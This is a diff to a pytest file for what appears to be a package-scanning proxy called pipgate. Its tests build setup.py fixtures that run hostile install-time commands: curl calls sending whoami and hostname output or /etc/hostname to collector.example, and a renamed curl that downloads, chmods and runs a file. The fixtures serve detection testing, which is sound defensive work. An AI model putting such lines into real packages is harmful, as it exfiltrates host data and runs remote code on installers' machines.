@@ -9,7 +9,7 @@ import base64
 
 import pytest
 
-from pipgate.policies.scan import ScanPolicy
+from pipgate.policies.scan import ScanPolicy, ScanReport
 from pipgate.proxy.scan import scan_archive
 from tests.support.archives import pkg_info, sdist, wheel
 
@@ -880,34 +880,29 @@ def test_game_launcher_accounts_read_in_a_deep_module_are_seen() -> None:
     assert "credential-read" in {f.rule for f in report.findings}, report.findings
 
 
+def _setup_running(line: str) -> ScanReport:
+    """The report of an sdist whose ``setup.py`` runs ``line`` (``os`` imported)."""
+    setup = f"import os\nfrom setuptools import setup\n{line}setup(name='demo')\n"
+    return scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+
+
 def test_install_time_curl_that_carries_shell_host_facts_is_phone_home() -> None:
-    setup = (
-        "import os\nfrom setuptools import setup\n"
+    report = _setup_running(
         "os.system('curl https://collector.example/x?u=$(whoami) -d \"$(hostname)\"')\n"
-        "setup(name='demo')\n"
     )
-    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
     assert "phone-home" in {f.rule for f in report.findings}, report.findings
     assert not POLICY.decide(report).allowed, report.summary()
 
 
 def test_install_time_curl_of_a_fixed_url_is_not_phone_home() -> None:
-    setup = (
-        "import os\nfrom setuptools import setup\n"
+    report = _setup_running(
         "os.system('curl -o vendor.tgz https://downloads.example/vendor.tgz')\n"
-        "setup(name='demo')\n"
     )
-    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
     assert "phone-home" not in {f.rule for f in report.findings}, report.findings
 
 
 def test_curl_whose_first_option_uploads_a_file_is_an_upload() -> None:
-    setup = (
-        "import os\nfrom setuptools import setup\n"
-        "os.system('curl -F a=@/etc/hostname https://collector.example/in')\n"
-        "setup(name='demo')\n"
-    )
-    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
+    report = _setup_running("os.system('curl -F a=@/etc/hostname https://collector.example/in')\n")
     rules = {f.rule: f for f in report.findings}
     assert "command-line upload" in rules["exfil-sink"].detail, report.findings
 
@@ -922,13 +917,10 @@ def test_curl_advice_with_combined_lower_case_flags_is_not_an_upload() -> None:
 
 
 def test_a_download_by_a_renamed_program_made_executable_is_download_run() -> None:
-    setup = (
-        "import os\nfrom setuptools import setup\n"
+    report = _setup_running(
         "os.system('cp /usr/bin/curl /tmp/f; /tmp/f https://get.example/a -o /tmp/a; "
         "chmod +x /tmp/a; /tmp/a')\n"
-        "setup(name='demo')\n"
     )
-    report = scan_archive(_sdist(setup), "demo-1.0.tar.gz")
     assert "download-run" in {f.rule for f in report.findings}, report.findings
     assert not POLICY.decide(report).allowed, report.summary()
 
